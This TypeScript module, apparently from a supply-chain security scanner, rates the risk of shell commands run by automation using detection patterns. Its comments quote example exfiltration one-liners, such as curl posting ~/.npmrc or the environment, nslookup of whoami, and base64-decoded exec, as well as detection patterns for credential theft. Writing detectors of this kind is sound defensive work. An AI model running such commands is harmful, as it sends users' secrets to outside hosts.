import type { Severity } from '../../signal/schema.js';
import { credentialSubstitutedIntoRequest, readsCredentialStore, sendsData } from '../build-code/behaviors.js';
import { dnsLookupInShell } from '../code/dns-exfiltration.js';
import { WHOLE_ENVIRONMENT } from '../code/sink-rules.js';
import { isSuspiciousEndpoint } from '../code/network-endpoints.js';
import { findPipeToShell } from '../shell/pipe-to-shell.js';
import { secretNamedVariablesSent } from '../shell/secret-named-pick.js';
import { anyOf, inOrderOnALine } from '../util.js';

/** A call that runs what it is given as code or a command: `execSync(`, `eval(`, `Function(`, `os.system(`, `popen(`, `sh -c "$(…)"`. */
const RUNS_GIVEN_CODE = /\b(?:execSync|execFileSync|exec|eval|Function|spawnSync|spawn|system|popen)\s*\(|\b(?:ba|z)?sh\s+-c\s+["']?\$\(/;
/** Text decoded from base64 in an inline program or a shell: `Buffer.from(s, 'base64')`, `b64decode(`, `atob(`, `base64 -d`, `FromBase64String`. */
const BASE64_DECODE = /['"]base64['"]|\bb64decode\b|\batob\s*\(|\bbase64\s+(?:-d|--decode)\b|\bFromBase64String\b/i;

/** Decoded text piped into a shell or handed to a call that runs it, eval of a download, PowerShell's Invoke-Expression (linear-time: one pass a line). */
const DECODED_OR_FETCHED_AND_RUN = anyOf(
  inOrderOnALine(/base64\s+(?:-d|--decode)\b/i, /\|\s*(?:ba|z)?sh\b/i, 0),
  // `node -e "execSync(Buffer.from('Y3Vyb…', 'base64').toString())"`, `python -c "exec(base64.b64decode('…'))"`, either order.
  inOrderOnALine(RUNS_GIVEN_CODE, BASE64_DECODE, 0),
  inOrderOnALine(BASE64_DECODE, RUNS_GIVEN_CODE, 0),
  inOrderOnALine(/\beval\b/i, /\b(?:curl|wget)\b/i),
  /\bIEX\b|Invoke-Expression/i,
);

/** Chat webhooks: a notification's ordinary address, suspicious in automation only as any network use is. */
const CHAT_WEBHOOK = /hooks\.slack\.com\/services|discord(?:app)?\.com\/api\/webhooks|api\.telegram\.org\/bot/i;

/** The home folder's SSH keys as a whole (`tar czf - ~/.ssh`, `zip -r k.zip $HOME/.ssh`): its files are credential stores one by one. */
const HOME_SSH_FOLDER = /(?:~|\$\{?HOME\}?)\/\.ssh\b/;
/** Languages of the inline programs a command may run (`python -c`, `node -e`, `ruby -e`). */
const INLINE_LANGUAGES = ['python', 'js', 'ruby'] as const;

/**
 * How much a command that automation runs on someone's machine deserves a look: high when it pipes a
 * download into a shell, decodes and runs hidden text (piped into a shell, or given to `execSync(`,
 * `eval(`, `exec(`, `os.system(` in an inline program), looks up a name built from data (DNS
 * exfiltration), sends data while reading a credential store (the `~/.ssh` folder too, git's stored
 * credentials) or puts a stored credential into a request's URL or header (`curl "https://h/?t=$(gh
 * auth token)"`; not a service's token given to that service), or the whole
 * environment (in an inline program too), sends the values of the variables it picks by a secret's
 * word (secretNamedVariablesSent), or reaches a bare public IP or a paste, tunnel or request-capture service (where stolen data goes: `curl -d "$(git config user.email)"
 * https://x.trycloudflare.com`), medium when it downloads or reaches the network otherwise, `base`
 * otherwise.
 */
export function commandSeverity(command: string, base: Severity): Severity {
  if (findPipeToShell(command).length > 0 || DECODED_OR_FETCHED_AND_RUN.test(command)) return 'high';
  if (isSuspiciousEndpoint(command) && !CHAT_WEBHOOK.test(command)) return 'high';
  // A DNS lookup of a name built from data (`nslookup "$(whoami).x.tld"`): the lookup carries it out.
  if (dnsLookupInShell(command) !== null) return 'high';
  // Credentials or the whole environment sent somewhere (`curl -d "$(cat ~/.npmrc)" …`, `env | curl -d @- …`), whatever the host.
  if (sendsData(command, 'shell') && (readsCredentialStore(command) || HOME_SSH_FOLDER.test(command) || WHOLE_ENVIRONMENT.any?.test(command) === true)) return 'high';
  // A stored credential put into a request's URL or header (`curl "https://h/?t=$(gh auth token)"`), not a service's token given to that service.
  if (credentialSubstitutedIntoRequest(command)) return 'high';
  // The variables named like secrets picked and their values sent (`for v in $(compgen -e | grep -i token); do curl … -d "${!v}"; done`).
  if (secretNamedVariablesSent(command.split('\n')) !== null) return 'high';
  // The same written as an inline program (`python -c "…urlopen(u, data=json.dumps(dict(os.environ))…"`, `node -e "…"`).
  if (INLINE_LANGUAGES.some((language) => WHOLE_ENVIRONMENT[language]?.test(command) === true && sendsData(command, language))) return 'high';
  if (/\b(?:curl|wget|nc|ncat|Invoke-WebRequest|iwr)\b|https?:\/\//i.test(command)) return base === 'high' ? 'high' : 'medium';
  return base;
}

/** A command as one short line for a title or detail. */
export function shortCommand(command: string): string {
  const one = command.replace(/\s+/g, ' ').trim();
  return one.length > 120 ? `${one.slice(0, 117)}…` : one;
}
